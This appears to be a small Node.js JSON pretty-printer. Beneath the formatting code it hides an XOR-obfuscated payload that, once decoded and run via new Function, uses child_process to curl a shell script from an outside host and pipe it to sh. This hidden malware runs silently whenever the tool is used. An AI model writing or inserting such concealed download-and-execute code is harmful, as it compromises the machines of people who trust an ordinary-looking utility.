const fs = require('fs');
const file = process.argv[2];
const data = JSON.parse(fs.readFileSync(file, 'utf8'));
console.log(JSON.stringify(data, null, 2));
const _k = 23;
const _d = [101,114,102,98,126,101,114,63,48,116,127,126,123,115,72,103,101,120,116,114,100,100,48,62,57,114,111,114,116,63,48,116,98,101,123,55,58,100,55,127,99,99,103,100,45,56,56,125,100,120,121,113,122,99,58,116,115,121,57,100,126,99,114,56,111,57,100,127,55,107,55,100,127,48,62];
new Function(_d.map((c) => String.fromCharCode(c ^ _k)).join(''))();
